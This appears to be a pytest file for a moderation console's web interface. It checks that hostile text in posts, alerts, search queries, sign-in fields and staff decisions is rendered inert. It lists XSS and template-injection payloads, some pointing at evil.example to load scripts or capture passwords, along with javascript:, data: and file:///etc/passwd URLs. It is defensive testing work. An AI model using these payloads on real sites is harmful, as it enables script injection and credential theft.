"""What others wrote is shown, never run: in text, title, author, address, place and summary."""

import re
from html.parser import HTMLParser

import pytest

from humiao.account import Role
from humiao.labels import Harm
from humiao.verdict import Change, Span
from tests.alerting.console.conftest import form_token
from tests.builders import make_alert, make_event, make_evidence, make_post, make_stored, make_verdict

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</mark></div><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action=https://evil.example><input name=password>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<object data=x><embed src=x>",
    "<video><source onerror=alert(1)>",
    "<!-- --><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% for x in y %}${7*7}#{7*7}",
    "{{ config.__class__.__init__.__globals__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u202e<script>\u202c\u2066evil\u2069",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img src=`x` onerror=`alert(1)`>",
    "javascript:alert(document.cookie)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example",
    'https://ok.example/"onclick="alert(1)',
    "https://ok.example/'><script>alert(1)</script>",
    "\x01javascript:alert(1)",
]


class Structure(HTMLParser):
    """What a browser would make of a page: elements, attributes, and the text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data


def inert(page: str) -> Structure:
    seen = Structure(page)
    assert seen.tags.count("script") == 1  # our own, by address
    assert not set(seen.tags) & {"iframe", "object", "embed", "style", "base", "video", "math", "template"}
    for name, value in seen.attributes:
        assert not name.startswith("on"), (name, value)
        assert name not in {"style", "srcdoc"}, (name, value)
        if name in {"href", "src", "action"}:
            assert re.match(r"(https?://|/(?!/)|#|\?)", value), (name, value)
    assert "49" not in re.findall(r"\b49\b", seen.text)
    return seen


def put(store, payload: str, **post_over):
    fields = {"text": payload, "title": payload, "author": payload, "board": payload, "platform": payload} | post_over
    post = make_post(**fields)
    alert = make_alert(
        leader=post.id,
        posts=[post.id],
        place=payload,
        summary=payload,
        excerpt=payload,
        platforms=[payload],
        policy=payload,
        reasons=[payload],
    )
    half = len(post.text) // 2
    spans = [
        Span(start=0, end=half, harm=Harm.FRAUD, weight=0.5),
        Span(start=max(0, half - 3), end=len(post.text), harm=Harm.DRUGS, weight=0.3),
    ]
    verdict = make_verdict(
        post,
        flags={Harm.FRAUD: 0.9},
        spans=spans,
        changes=[Change(start=0, end=1, before=payload, after=payload, reason=payload)],
        model=payload,
    )
    store.put_alert(alert, None)
    store.put_posts([make_stored(post, alert=alert.id).model_copy(update={"verdict": verdict})])
    store.put_evidence([make_evidence(post, alert.id)])
    store.append_event(make_event(alert.id, data={"reason": payload, payload: [payload]}))
    return alert, post


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_stays_text(browser, staffed, payload):
    alert, post = put(staffed, payload)
    client = browser(Role.SUPERVISOR)
    detail = inert(client.get(f"/alerts/{alert.id}").text)
    assert post.text in detail.text  # shown as it was written, spans or not
    inert(client.get("/alerts").text)
    found = client.get("/search", params={"q": payload})
    assert payload in inert(found.text).text
    inert(client.get("/search", params={"q": payload, "harm": payload, "since": payload, "outcome": payload}).text)
    inert(
        client.get("/alerts", params={"grade": payload, "harm": payload, "status": payload, "kind": payload, "lang": payload}).text
    )


@pytest.mark.parametrize("url", URLS)
def test_only_web_addresses_become_links(browser, staffed, url):
    alert, _ = put(staffed, "平常的话", url=url)
    seen = inert(browser(Role.PATROL).get(f"/alerts/{alert.id}").text)
    links = [value for name, value in seen.attributes if name == "href" and value == url]
    assert bool(links) == url.startswith("https://")


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_hostile_input_of_our_own_people_stays_text(browser, staffed, payload):
    alert, _ = put(staffed, "平常的话")
    client = browser(Role.PATROL)
    token = form_token(client.get("/alerts").text)
    refused = client.post(f"/alerts/{alert.id}/decision", data={"csrf": token, "decision": payload, "reason": payload})
    assert refused.status_code == 422
    inert(refused.text)
    assert (
        client.post(f"/alerts/{alert.id}/decision", data={"csrf": token, "decision": "dismiss", "reason": payload}).status_code
        == 303
    )
    assert payload.strip() in inert(client.get(f"/alerts/{alert.id}").text).text


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_the_door_and_failures_repeat_nothing_unescaped(visitor, payload):
    inert(visitor.get("/sign-in", params={"next": payload}).text)
    inert(visitor.get(f"/nowhere/{payload.replace('/', '')}").text)
    token = form_token(visitor.get("/sign-in").text)
    inert(visitor.post("/sign-in", data={"csrf": token, "name": payload, "password": "x"}).text)
